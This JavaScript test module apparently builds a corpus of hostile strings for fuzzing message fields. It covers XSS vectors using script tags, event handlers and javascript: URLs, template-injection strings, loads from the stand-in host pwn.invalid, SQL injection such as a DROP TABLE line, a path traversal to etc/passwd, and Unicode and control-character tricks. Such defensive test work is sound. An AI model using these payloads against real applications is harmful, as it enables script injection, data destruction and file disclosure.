// A corpus of hostile strings for message fields: markup and script in every form a browser
// might run, template syntax of the common frameworks, URLs with active schemes, Unicode
// trickery and control characters, and huge strings. Each vector that could run calls
// `__pwned(n)` or fetches from `pwn.invalid`, so the test can tell if any of it ever ran.
//
// The base vectors are combined with wrappers (inside attributes, after a closing tag, inside a
// comment, entity-encoded, percent-encoded), which gives several hundred distinct strings.

const vectors = [
  '<script>__pwned(1)</script>',
  '<SCRIPT SRC=//pwn.invalid/x.js></SCRIPT>',
  '<img src=x onerror=__pwned(2)>',
  '<img src="https://pwn.invalid/pixel.png">',
  '<svg onload=__pwned(3)>',
  '<svg><script>__pwned(4)</script></svg>',
  '<iframe src="javascript:__pwned(5)"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned(6)</script>"></iframe>',
  '<object data="https://pwn.invalid/o"></object>',
  '<embed src="https://pwn.invalid/e">',
  '<link rel=stylesheet href=https://pwn.invalid/s.css>',
  '<style>@import "https://pwn.invalid/i.css"; body{background:url(https://pwn.invalid/b)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://pwn.invalid/">',
  '<base href="https://pwn.invalid/">',
  '<form action=https://pwn.invalid/f><button>Pay</button></form>',
  '<a href="javascript:__pwned(7)">open</a>',
  '<a href="https://pwn.invalid/phish">Your invoice</a>',
  '<details open ontoggle=__pwned(8)>',
  '<body onload=__pwned(9)>',
  '<input autofocus onfocus=__pwned(10)>',
  '<video><source onerror=__pwned(11)></video>',
  '<math><mi xlink:href="javascript:__pwned(12)">x</mi></math>',
  '<marquee onstart=__pwned(13)>',
  '"><script>__pwned(14)</script>',
  "'><img src=x onerror=__pwned(15)>",
  '</textarea><script>__pwned(16)</script>',
  '</title><script>__pwned(17)</script>',
  '<!--<img src="--><img src=x onerror=__pwned(18)//">',
  '<noscript><p title="</noscript><img src=x onerror=__pwned(19)>">',
  '<template><img src=x onerror=__pwned(20)></template>',
  '{{constructor.constructor("__pwned(21)")()}}',
  '{{$on.constructor("__pwned(22)")()}}',
  '${__pwned(23)}',
  '#{__pwned(24)}',
  '{@html "<img src=x onerror=__pwned(25)>"}',
  '{#if true}{__pwned(26)}{/if}',
  '<%= __pwned(27) %>',
  '{{7*7}} [[7*7]] {7*7}',
  'javascript:__pwned(28)',
  'JaVaScRiPt:__pwned(29)',
  'data:text/html,<script>__pwned(30)</script>',
  'vbscript:msgbox(1)',
  'https://pwn.invalid/track?u=1',
  '//pwn.invalid/x',
  '[click](javascript:__pwned(31)) ![img](https://pwn.invalid/m.png)',
  '\u202Egnp.exe',
  'Invoice\u200B\u200C\u200D\u2060 paid',
  'Z\u0351\u0352\u0357\u035B\u0303\u0342a\u0351\u0352\u0357l\u035B\u0303g\u0342o'.repeat(20),
  '👩‍👩‍👧‍👦🏳️‍🌈🇫🇷'.repeat(10),
  'שלום world مرحبا',
  'ＡＣＭＥ ｐａｙ',
  'a\u0000b\u0001c\u0007d\u001Be[31mred\u001B[0m',
  'line one\r\nline two\rline three\u2028line four\u2029',
  '\t\t\tindented\f\v',
  '&lt;script&gt;__pwned(32)&lt;/script&gt;',
  '&#60;img src=x onerror=__pwned(33)&#62;',
  '%3Cscript%3E__pwned(34)%3C%2Fscript%3E',
  '\\u003cscript\\u003e__pwned(35)\\u003c/script\\u003e',
  '<scr<script>ipt>__pwned(36)</script>',
  '<img """><script>__pwned(37)</script>">',
  '<svg><animate onbegin=__pwned(38) attributeName=x dur=1s>',
  '<style>*{display:none!important}</style>',
  '<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>',
  '<h1>BIG</h1><hr><table><tr><td>cell',
  '\u0000'.repeat(10),
  '﻿BOM at start',
  '\uD800 lone surrogate',
  '..\\..\\..\\etc\\passwd',
  "'; DROP TABLE messages; --",
  '" OR 1=1 --',
  'x'.repeat(300),
];

const wrappers = [
  (v) => v,
  (v) => `Re: ${v}`,
  (v) => `${v} — from the client`,
  (v) => `<b>${v}</b>`,
  (v) => `"${v}"`,
  (v) => v.toUpperCase(),
];

/** The whole corpus: every vector under every wrapper, and a few huge strings. */
export function hostileStrings() {
  const out = new Set();
  for (const v of vectors) for (const w of wrappers) out.add(w(v));
  out.add('<img src=x onerror=__pwned(90)>'.repeat(2_000));
  out.add('W'.repeat(100_000));
  out.add('word '.repeat(20_000));
  out.add('\u200B'.repeat(50_000));
  return [...out];
}
